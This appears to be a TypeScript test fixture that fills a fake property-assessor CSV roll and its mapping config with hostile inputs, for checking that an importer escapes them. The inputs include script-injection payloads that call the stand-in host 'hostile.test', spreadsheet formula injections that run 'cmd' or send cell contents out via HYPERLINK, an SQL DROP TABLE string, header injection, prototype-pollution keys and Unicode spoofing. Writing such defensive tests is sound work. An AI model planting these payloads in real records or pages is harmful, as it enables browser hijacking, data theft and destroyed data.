/** Payloads call and request this host when a browser runs them; nobody answers there. */
export const hostileHost = 'hostile.test';

const hit = `window.__hit=1;fetch('https://${hostileHost}/')`;

/** This very long word hardly compresses. */
const endless = Array.from({ length: 1_250 }, (_, at) =>
  ((at * 2_654_435_761) % 4_294_967_296).toString(16).padStart(8, '0'),
).join('');

/** Texts that somebody might put into a public record so that readers' browsers run them. */
export const payloads: readonly string[] = [
  `<img src=x onerror="${hit}">`,
  `"><script>${hit}</script>`,
  `'"><svg onload="${hit}"><circle r=9></svg>`,
  `</title></script><script>${hit}</script>`,
  `javascript:${hit}//`,
  `<a href="javascript:${hit}">x</a><iframe srcdoc="<script>parent.__hit=1</script>"></iframe>`,
  `{{7*7}}\${7*7}<%= 7*7%>#{7*7}`,
  `=HYPERLINK("https://${hostileHost}/?"&A1,"Click")`,
  `+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+9)*cmd|' /C calc'!A0`,
  `\tJ=1+1`,
  `\u202egnp.exe\u202c a\u200bb\u200dc\u2066d\u2069 \ufeffe`,
  `two\r\nlines\u2028and\u0085more\u0007`,
  `nul\u0000in the middle`,
  `__proto__`,
  `constructor`,
  `\\"; DROP TABLE records.properties; --`,
  `%00%0d%0aSet-Cookie: a=b`,
  `Z̷̢͓̲̥̱̾̈́̊a̸̖͓̙͂͌l̸̯͚̈́g̴̛̗o ${'W̵'.repeat(60)}`,
  endless.slice(0, 480),
  endless.slice(0, 5_000),
  endless,
  'Ab '.repeat(3_333),
];

const columns = [
  'Parcel',
  'Address',
  'City',
  'Zip',
  'Lat',
  'Lng',
  'Beds',
  'Sqft',
  'Year',
  'Owner',
  'Owner 2',
  'Care of',
  'Mail name',
  'Mail street',
  'Mail place',
  'Mail zip',
  'Sold',
  'Price',
  'Buyer',
  'Seller',
  'Document',
  'Number',
  'Market',
  'Legal',
  'Zoning',
  'Subdivision',
  'Use',
  'Url',
];

/** There is a parcel for each payload, which has it in all of its texts. */
export const hostileRoll: readonly string[] = [columns, ...payloads.map(row)].map((cells) =>
  cells.map(cell).join(','),
);

export const hostileMapping = {
  source: {
    id: 'small',
    kind: 'assessor-roll',
    publisher: `Nobody ${payloads[0]}`,
    title: `SAMPLE roll ${payloads[1]}`,
    licence: `none ${payloads[2]}`,
  },
  address: { line: 'Address', city: 'City', zip: 'Zip' },
  location: { lat: 'Lat', lng: 'Lng' },
  facts: {
    type: [{ value: 'single-family' }],
    beds: 'Beds',
    livingAreaSqft: 'Sqft',
    yearBuilt: 'Year',
  },
  owners: { columns: ['Owner', 'Owner 2'] },
  mailing: {
    careOf: 'Care of',
    names: ['Mail name'],
    street: 'Mail street',
    cityState: 'Mail place',
    zip: 'Mail zip',
  },
  sales: [
    {
      date: 'Sold',
      price: 'Price',
      buyer: 'Buyer',
      seller: 'Seller',
      documentType: 'Document',
      documentNumber: 'Number',
      armsLength: { value: true },
    },
  ],
  assessments: [{ year: { value: 2026 }, market: 'Market' }],
  details: ['Legal', 'Zoning', 'Subdivision', 'Use', 'Url'].map((label) => ({
    label: `${label} <b onclick="window.__hit=1">`,
    cell: label,
  })),
};

function row(payload: string, at: number): readonly string[] {
  const texts = Array.from({ length: 7 }, () => payload);
  const place = [`43.07${10 + at}`, `-89.38${10 + at}`, '3', `${1_500 + at * 10}`, '1960'];
  const sale = [`2026-0${1 + (at % 9)}-12`, `${300_000 + at * 1_000}`];
  return [
    `h${at}`,
    `${at + 1} Oak ${payload}`,
    payload,
    '53703',
    ...place,
    ...texts.slice(0, 6),
    payload,
    ...sale,
    ...texts.slice(0, 4),
    '310000',
    ...texts.slice(0, 5),
  ];
}

/** Quotes a cell by RFC 4180. */
function cell(text: string): string {
  return `"${text.replaceAll('"', '""')}"`;
}
